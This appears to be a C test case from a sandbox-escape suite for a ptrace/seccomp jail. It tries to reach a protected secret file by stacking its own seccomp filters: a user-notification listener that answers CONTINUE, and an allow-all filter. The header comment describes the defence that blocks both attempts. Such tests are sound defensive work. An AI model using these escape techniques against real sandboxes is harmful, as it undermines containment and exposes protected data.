/* tracejail-escape
 * id: filter-stacking
 * class: filter stacking
 * title: stack our own seccomp filters: a user-notify listener that answers CONTINUE, and allow-all
 * covered: standard
 * needs: secret
 *
 * Technique: seccomp filters stack, and the kernel takes the highest-precedence answer; USER_NOTIF
 * ranks above TRACE. So a filter of ours that returns SECCOMP_RET_USER_NOTIF for openat, answered
 * by our own thread with SECCOMP_USER_NOTIF_FLAG_CONTINUE, would run the openat without the
 * tracer ever seeing it. A second child just adds an allow-everything filter with
 * prctl(PR_SET_SECCOMP), hoping it replaces the sandbox's.
 * Defence: seccomp with SECCOMP_FILTER_FLAG_NEW_LISTENER is an escape primitive the tracer denies
 * (EPERM). Extra filters without a listener are harmless: the most restrictive answer wins, so
 * the sandbox's TRACE still stops the openat and the secret stays denied.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *secret;

/* Reads the secret's first line into buf; returns 1 on success, else 0 with the errno name. */
static int open_secret(char *buf, size_t len) {
  int fd = open(secret, O_RDONLY);
  if (fd < 0) { snprintf(buf, len, "open(secret) -> %s", strerrorname_np(errno)); return 0; }
  ssize_t n = read(fd, buf, len - 1);
  buf[n > 0 ? n : 0] = 0;
  buf[strcspn(buf, "\n")] = 0;
  close(fd);
  return 1;
}

/* Answers every notification with CONTINUE: "let the call run as if we had not been asked". */
static void *listener(void *arg) {
  int fd = (int)(long)arg;
  for (int i = 0; i < 64; i++) {
    struct seccomp_notif req;
    struct seccomp_notif_resp resp;
    memset(&req, 0, sizeof req);
    if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) {
      if (errno == EINTR) continue;
      break;
    }
    memset(&resp, 0, sizeof resp);
    resp.id = req.id;
    resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
    ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
  }
  return NULL;
}

/* Child 1: USER_NOTIF filter on open/openat, answered from a thread. Writes a line to w. */
static int notify_child(int w) {
  struct sock_filter f[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 1, 0),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_open, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog prog = {sizeof f / sizeof f[0], f};
  char line[1024], buf[512];
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) {
    dprintf(w, "PR_SET_NO_NEW_PRIVS -> %s", strerrorname_np(errno));
    return 1;
  }
  long lfd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
  if (lfd < 0) {
    dprintf(w, "seccomp(NEW_LISTENER) -> %s", strerrorname_np(errno));
    return 1;
  }
  /* The thread inherits the filter but only calls ioctl, which the filter allows. */
  pthread_t t;
  int e = pthread_create(&t, NULL, listener, (void *)lfd);
  if (e != 0) {
    dprintf(w, "seccomp(NEW_LISTENER) ok (fd %ld) but pthread_create -> %s", lfd, strerrorname_np(e));
    return 1;
  }
  int ok = open_secret(buf, sizeof buf);
  snprintf(line, sizeof line, "seccomp(NEW_LISTENER) ok (fd %ld); answered CONTINUE; %s%s", lfd,
           ok ? "open(secret) ok: " : "", buf);
  if (write(w, line, strlen(line)) < 0) return 1;
  return ok ? 0 : 1; /* exiting the process ends the listener thread */
}

/* Child 2: an allow-everything filter via prctl. */
static int allow_child(int w) {
  struct sock_filter f[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
  struct sock_fprog prog = {1, f};
  char buf[512];
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) {
    dprintf(w, "PR_SET_NO_NEW_PRIVS -> %s", strerrorname_np(errno));
    return 1;
  }
  int r = prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog, 0, 0);
  const char *how = r == 0 ? "ok" : strerrorname_np(errno);
  int ok = open_secret(buf, sizeof buf);
  dprintf(w, "prctl(PR_SET_SECCOMP, allow-all) %s; %s%s", how, ok ? "open(secret) ok: " : "", buf);
  return ok ? 0 : 1;
}

static int run(const char *label, int (*fn)(int), char *summary, size_t len) {
  int p[2];
  if (pipe(p) != 0) return 0;
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    close(p[0]);
    _exit(fn(p[1]));
  }
  close(p[1]);
  char buf[1100];
  size_t n = 0;
  ssize_t r;
  while (pid > 0 && n < sizeof buf - 1 && (r = read(p[0], buf + n, sizeof buf - 1 - n)) > 0)
    n += (size_t)r;
  buf[n] = 0;
  close(p[0]);
  int st = 0;
  if (pid > 0) waitpid(pid, &st, 0);
  else snprintf(buf, sizeof buf, "fork -> %s", strerrorname_np(errno));
  if (n == 0 && pid > 0) snprintf(buf, sizeof buf, "child reported nothing (status 0x%x)", st);
  printf("%s: %s\n", label, buf);
  size_t used = strlen(summary);
  snprintf(summary + used, len - used, "%s%s", used ? "; " : "", buf);
  return strstr(buf, "open(secret) ok") != NULL;
}

int main(void) {
  secret = getenv("TJ_SECRET");
  if (!secret) { printf("BLOCKED: TJ_SECRET not set\n"); return 0; }
  char summary[2400] = "";
  int escaped = run("user-notify listener + CONTINUE", notify_child, summary, sizeof summary);
  escaped |= run("allow-all filter via prctl", allow_child, summary, sizeof summary);
  printf("%s: %s\n", escaped ? "ESCAPED" : "BLOCKED", summary);
  return 0;
}
